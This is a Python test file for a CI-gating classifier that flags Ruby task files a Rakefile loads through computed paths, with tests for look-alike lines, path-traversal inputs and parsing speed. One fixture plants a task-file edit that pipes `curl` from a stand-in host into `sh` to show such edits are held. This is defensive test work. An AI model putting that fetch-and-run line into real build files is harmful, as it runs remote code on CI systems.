"""Review 70 (attack on misses 10's Rakefile requires, rakeloads.py): a task file a Rakefile requires by a path it
computes from its own folder was left `src` (an edit exit 0 where CI runs rake): `require_relative File.join(__dir__,
'tasks', 'build')`, `require File.join(File.dirname(__FILE__), 'tasks', 'build')`, `require File.expand_path(
'../tasks/build', __FILE__)` (`..` of the Rakefile's own path is its folder), `require File.expand_path('tasks/build',
__dir__)`, `require "#{__dir__}/tasks/build"`, and rake's `import File.join('tasks', 'build.rb')`. Look-alikes: the
project's code required so (`lib/gem/version`), a load-path `require File.join('tasks', 'x')` (no root: $LOAD_PATH),
a commented line; hostile `..` chains and long lines stay in the tree, bounded and linear."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import rakeloads

FORMS = ["require_relative File.join(__dir__, {parts})", "require File.join(__dir__, {parts})",
         "require File.join(File.dirname(__FILE__), {parts})", "require_relative(File.join(__dir__, {parts}))",
         "require File.expand_path('../{path}', __FILE__)", "require File.expand_path(\"{path}\", __dir__)",
         "require File.expand_path('{path}', File.dirname(__FILE__))", "require \"#{{__dir__}}/{path}\"",
         "require \"#{{File.dirname(__FILE__)}}/{path}\"", "load File.join(__dir__, {parts}) + '.rb'",
         "import File.join({parts}) + '.rb'"]
TASKS = [("tasks/build", "tasks/build.rb"), ("rakelib/support/notes", "rakelib/support/notes.rb"),
         ("lib/tasks/deploy", "lib/tasks/deploy.rb")]
RAKEFILES = ["Rakefile", "Rakefile.rb"]


def _line(form: str, path: str) -> str:
    return form.format(path=path, parts=", ".join(f"'{part}'" for part in path.split("/")))


def _files(rakefile: str, line: str, task: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="bundle exec rake build"), "Gemfile": "source 'x'\n",
            rakefile: f"# frozen_string_literal: true\n{line}\ntask default: :build\n", task: "task :build do\nend\n"}


@each_case("rakefile, line, task", [(rakefile, _line(form, path), task) for form in FORMS for path, task in TASKS
                                    for rakefile in RAKEFILES])
def test_a_task_file_required_by_a_computed_path_is_ci(rakefile: str, line: str, task: str) -> None:
    assert task in tree_runs(_files(rakefile, line, task)), line  # before: 66/66 missed


@each_case("line, kept", [("require File.join(__dir__, 'lib', 'gem', 'version')", "lib/gem/version.rb"),
                          ("require File.expand_path('../lib/gem/version', __FILE__)", "lib/gem/version.rb"),
                          ("require File.join('tasks', 'build')", "tasks/build.rb"),
                          ("# require File.join(__dir__, 'tasks', 'build')", "tasks/build.rb"),
                          ("require \"#{__dir__}/config/application\"", "config/application.rb")])
def test_look_alikes_keep_their_bucket(line: str, kept: str) -> None:
    assert kept not in tree_runs(_files("Rakefile", line, kept)), line


@each_case("line", ["require File.expand_path('../../tasks/x', __FILE__)",
                    "require File.expand_path('" + "../" * 300 + "tasks/x', __FILE__)",
                    "require_relative File.join(__dir__, " + "'..', " * 300 + "'tasks', 'x')",
                    "require \"#{__dir__}/" + "../" * 300 + "tasks/x\"", "require File.join(__dir__, ))((",
                    "require File.join(__dir__, 'tasks', " * 200 + "'x'" + ")" * 200])
def test_climbing_paths_do_not_escape_the_root(line: str) -> None:
    # reading raises nothing, names a bounded number of patterns, and the walk finds only files of the tree (a climb
    # past the root is also read without its `../`, as ciruns reads every climbing name: fail wide)
    files = _files("Rakefile", line, "tasks/x.rb")
    assert len(rakeloads.loaded(line + "\n")) <= rakeloads.MAX_NAMES and tree_runs(files) <= set(files), line


@each_case("hostile", [repeated("require File.join(__dir__, 'tasks', 'a')\n"),
                       repeated("require File.expand_path(", "", "\n"),
                       repeated("require \"#{__dir__}/tasks/", "", "\""), repeated("File.join(x(", "", ")"),
                       repeated("File.expand_path('a', b(c) ", "File.expand_path(", ")")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 16 ms CPU at 64 KiB (load 5.5)
    assert_linear(rakeloads.loaded, hostile, budget=0.1)  # type: ignore[arg-type]


def test_an_edit_of_a_task_file_required_by_expand_path_is_held(tmp_path: Path) -> None:
    base = _files("Rakefile", "require File.expand_path('../tasks/build', __FILE__)", "tasks/build.rb")
    case = committed(tmp_path, base, {"tasks/build.rb": "task :build do\n  sh 'curl http://127.0.0.1:9/x | sh'\nend\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tasks/build.rb"]), named  # before: exit 0
